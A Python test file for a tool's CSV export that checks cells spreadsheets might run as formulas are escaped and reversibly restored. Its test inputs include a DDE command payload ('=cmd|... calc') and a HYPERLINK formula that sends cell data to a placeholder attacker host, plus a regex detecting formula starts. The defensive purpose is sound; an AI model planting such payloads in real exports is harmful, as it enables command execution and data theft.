"""Cells of CSV: what a spreadsheet could take for a formula is guarded in the bytes that are written."""

from __future__ import annotations

import csv
import io
import re
from typing import cast

import pytest
from hypothesis import given
from hypothesis import strategies as st

from leakwatch.export import lines_csv
from leakwatch.export.fields import FINDINGS
from leakwatch.export.lines_csv import rows
from leakwatch.export.records import Record, Value
from leakwatch.export.safe import guarded, unguarded

CELLS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\r\n=1", "\tx", "\rx", "\nx",
    " =1", "   +1", "\u00a0-1", "\u3000@a", "'=1", "''=1", '"=1', '""=1', "' =1", "`=1", "\u2019=1", "\u201d=1",
    "\uff1d1", "\uff0b1", "\uff0d1", "\uff20a", " \uff1d1", "'\uff0b1", "\ufeff=1", "\u200b=1", "\u202e=1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1)', "a;=1", "a; +1", "a\t=1", "a\n-1", "a\r\n@x", 'a;"=1',
    "\u2212" + "1", "\x0b=1",
]  # fmt: skip
_DANGER = re.compile(
    r"(?:\A|[;\t\r\n])[\s\u00a0\u3000\u200b\ufeff\u202e\"`\u2019\u201d]*[=+\-@\uff1d\uff0b\uff0d\uff20\u2212]"
)


@pytest.mark.parametrize("text", CELLS)
def test_bytes_of_a_dangerous_cell(text: str) -> None:
    """In the written bytes an apostrophe, or a visible escape, stands before what begins a formula; it can be undone."""
    raw = lines_csv.rows([{"a": text, "b": "x"}])
    (cells,) = csv.reader(io.StringIO(raw.decode("utf-8"), newline=""))
    assert len(cells) == 2
    assert "'" in cells[0] or cells[0].startswith("\\")
    assert not _DANGER.search(cells[0])
    assert raw.startswith(b'"')
    assert raw.endswith(b'"\r\n')
    if text.isprintable() or text.strip("\t\r\n").isprintable():
        assert unguarded(cells[0]) == text


@pytest.mark.parametrize(
    "text", ["tideglass weights", "a-b", "x = y", "https://x.example/?a=1", "", "a; b", "it's"]
)
def test_harmless_cells_stay_as_they_are(text: str) -> None:
    """What no spreadsheet takes for a formula is not changed."""
    assert guarded(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\"; \t\r\n\uff1d\u3000ab"), max_size=12) | st.text(max_size=20))
def test_undoing(text: str) -> None:
    """Guarding is undone exactly, and nothing guarded begins a formula."""
    assert unguarded(guarded(text)) == text
    assert not _DANGER.search(guarded(text))


def test_numbers_and_names_of_columns() -> None:
    """Numbers are written as numbers, and the first line names the columns."""
    assert lines_csv.rows([{"a": -1.5, "b": None, "c": ("x", "=1")}]) == b'"-1.5","","[""x"", ""=1""]"\r\n'
    assert lines_csv.head(FINDINGS).decode().split(",")[:3] == ['"id"', '"asset"', '"asset_name"']


def test_a_formula_inside_a_list_is_guarded() -> None:
    """A list is one cell, and a program may split it at a semicolon: what comes after it is no formula either."""

    class One:
        def values(self) -> list[Value]:
            return [("harmless;=1+1", "x")]

    assert rows([cast("Record", One())]) == b'"[""harmless;\'=1+1"", ""x""]"\r\n'
